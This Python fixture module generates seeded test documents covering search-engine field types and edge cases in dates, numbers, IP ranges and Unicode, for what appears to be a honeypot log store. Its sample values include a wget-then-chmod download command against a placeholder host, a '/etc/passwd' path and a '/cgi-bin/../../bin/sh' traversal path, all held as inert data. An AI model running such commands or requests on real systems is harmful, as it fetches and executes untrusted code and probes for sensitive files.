"""The documents that every engine is asked about: all types of fields, several values and none, edges of numbers and times."""

import random
from typing import Any, TypeAlias

from honeyguide.store.dates import read_date

Json: TypeAlias = dict[str, Any]
DISTINCT = {"port", "d", "ip"}
"""Fields whose values are different within a document: the engines count one twice in some kinds of buckets, see known.json."""
COUNT = 320
PROPERTIES: Json = {
    "seq": {"type": "long"},
    "k": {"type": "keyword"},
    "user": {"type": "keyword"},
    "n": {"type": "long"},
    "port": {"type": "long"},
    "f": {"type": "double"},
    "r": {"type": "float"},
    "b": {"type": "boolean"},
    "ip": {"type": "ip"},
    "d": {"type": "date"},
    "e": {"type": "date"},
    "@timestamp": {"type": "date"},
    "geo": {"type": "geo_point"},
    "message": {"type": "text", "fields": {"keyword": {"type": "keyword"}}},
    "title": {"type": "text"},
    "path": {"type": "keyword"},
    "small": {"type": "integer"},
    "span": {"type": "integer_range"},
    "when": {"type": "date_range", "format": "strict_date_optional_time||epoch_millis"},
    "net": {"type": "ip_range"},
    "real": {"type": "double_range"},
    "o": {"properties": {"p": {"type": "keyword"}, "q": {"type": "long"}}},
    "nest": {"type": "nested", "properties": {"name": {"type": "keyword"}, "n": {"type": "long"}, "text": {"type": "text"}}},
}
"""`path` is a `wildcard` where the engine has that type."""
WORDS = ["a", "b", "root", "admin", "Root", "ROOT", "new york", "Ä", "é|x", "日本", "", "404", "true", "~odd", "/etc/passwd", "x_y", "a.b"]
MESSAGES = [
    "quick brown fox jumps", "fox quick", "failed password for root from 10.0.0.1 port 22", "New York City", "Brown bear JOHN johnathon",
    "the quick quick fox", "login failed: user=root", "GET /index.php?a=1 HTTP/1.1", "o'neil é café", "日本 語 fox", "", "404 not found",
    "x_y z.1 a.b 1.2.3", "wget http://203.0.113.9/x.sh; chmod 777 x.sh", "fox", "brown fox quick bear city",
]  # fmt: skip
PATHS = ["/", "/index.php", "/admin/login.php", "/Admin/Login.php", "/etc/passwd", "/cgi-bin/../../bin/sh", "/a*b", "/wp-login.php?x=1", ""]
NUMBERS = [0, 1, 2, 3, 7, -4, 22, 80, 443, 1000, 65535, 2**31, -(2**40), 2**53, "5", 2.9]
DOUBLES = [0, 0.1, 0.5, 1.5, -2.25, 3, 1e6, -1e-3, 1e15, "7.5", 100]
DATES = [
    "2026-01-01T00:30:00Z", "2026-01-01T23:30:00.123Z", "2026-01-31T23:59:59.999Z", "2026-02-01", "2026-02-28T12:00:00+09:00",
    "2026-03-29T00:59:59Z", "2026-03-29T01:00:00Z", "2026-03-29T03:30:00+02:00", "2025-12-31T23:30:00Z", "2025-10-26T00:30:00Z",
    "2025-10-26T01:30:00Z", "2026-03-08T07:30:00Z", 1767225600000, "2026-01", "2026",
]  # fmt: skip
EDGES = [
    "1969-07-20T20:17:40Z",
    "2024-02-29",
    "0001-01-01",
    "9999-12-31T23:59:59.999Z",
    "1970-01-01T00:00:00.001Z",
    "2262-04-11",
    "2038-01-19T03:14:08Z",
]
ADDRESSES = [
    "10.0.0.1",
    "10.0.0.2",
    "10.0.1.7",
    "192.0.2.9",
    "192.168.1.7",
    "::1",
    "2001:db8::1",
    "2001:db8::ff",
    "255.255.255.255",
    "0.0.0.0",
]
POINTS: list[Any] = [
    {"lat": 48.137, "lon": 11.575}, {"lat": 48.2, "lon": 11.6}, "-33.8,151.2", [139.7, 35.7], {"lat": 0, "lon": 179.5},
    {"lat": 1, "lon": -179.5}, {"lat": 51.5, "lon": -0.1}, "POINT (-74.0 40.7)",
]  # fmt: skip
NESTED: list[Json] = [
    {"name": "x", "n": 1, "text": "red fox"}, {"name": "y", "n": 2}, {"name": "z", "n": 1, "text": "blue fox"}, {"name": "x", "n": 9},
    {"name": "x", "n": [2, 4], "text": "red"}, {"n": 3},
]  # fmt: skip
SPANS: list[Json] = [
    {"gte": 1, "lte": 5}, {"gt": 1, "lt": 5}, {"gte": 5, "lt": 22}, {"gte": 22}, {"lte": 3}, {"gt": 2}, {"gte": 7, "lte": 7}, {"gte": -4, "lt": 2147483647},
]  # fmt: skip
WHEN: list[Json] = [
    {"gte": "2026-01-01", "lt": "2026-02-01"}, {"gte": "2026-01-15T12:00:00Z", "lte": "2026-03-01"}, {"gt": "2025-10-26"}, {"lt": "2026-01-10"},
    {"gte": 1767225600000, "lte": 1767225600000},
]  # fmt: skip
NETS: list[Any] = [
    "10.0.0.0/24", "10.0.0.0/31", "2001:db8::/32", {"gte": "10.0.0.2", "lt": "10.0.1.7"}, {"gt": "192.0.2.9", "lte": "192.168.1.7"}, "0.0.0.0/0",
    {"gte": "::1"},
]  # fmt: skip
REALS: list[Json] = [{"gte": 0.5, "lt": 1.5}, {"gt": -2.25, "lte": 3}, {"gte": 1e6}, {"lt": 0}, {"gte": 0.1, "lte": 0.1}]


def documents() -> list[Json]:
    """The same ones each time; `seq` numbers them."""
    dice = random.Random(6)
    pools: dict[str, tuple[list[Any], float, float]] = {
        "k": (WORDS, 0.8, 0.2),
        "user": (["root", "admin", "pi", "test", "oracle", "Root"], 0.9, 0.0),
        "n": (NUMBERS, 0.8, 0.2),
        "port": ([22, 23, 80, 443, 445, 1433, 2222, 3306], 0.9, 0.1),
        "small": ([1, 2, 3, 1000, -5], 0.5, 0.2),
        "f": (DOUBLES, 0.7, 0.1),
        "r": ([0.1, 0.5, 1.25, -3.75, 7, 16.5], 0.6, 0.1),
        "b": ([True, False, "true", "false", ""], 0.7, 0.05),
        "ip": (ADDRESSES, 0.8, 0.15),
        "d": (DATES, 0.8, 0.1),
        "e": (EDGES, 0.3, 0.0),
        "geo": (POINTS, 0.6, 0.0),
        "message": (MESSAGES, 0.85, 0.05),
        "title": (["Fox news", "brown bear", "city of york", "fox, bear & co"], 0.4, 0.2),
        "path": (PATHS, 0.7, 0.1),
        "nest": (NESTED, 0.4, 0.6),
    }
    made: list[Json] = []
    for number in range(COUNT):
        document: Json = {"seq": number}
        for name, (pool, there, several) in pools.items():
            if dice.random() < there:
                many = dice.random() < several
                some = dice.sample(pool, dice.randint(1, 3)) if name in DISTINCT else [dice.choice(pool) for _ in range(dice.randint(1, 3))]
                some = list({read_date(one): one for one in some}.values()) if name == "d" else some
                document[name] = some if many else dice.choice(pool)
        if dice.random() < 0.9:
            day, second = dice.randint(1, 90), dice.randint(0, 86_399_999)
            document["@timestamp"] = 1_767_225_600_000 + day * 86_400_000 + second
        if dice.random() < 0.5:
            document["o"] = {"p": dice.choice(WORDS[:6])} | ({"q": dice.randint(-3, 9)} if dice.random() < 0.7 else {})
        for name in ("k", "n"):
            if dice.random() < 0.03:
                document[name] = dice.choice([None, []])
        made.append(document)
    dice = random.Random(7)
    for document in made:
        for name, pool in (("span", SPANS), ("when", WHEN), ("net", NETS), ("real", REALS)):
            if dice.random() < 0.5:
                document[name] = dice.choice(pool)
    return [{"seq": COUNT}, *made]
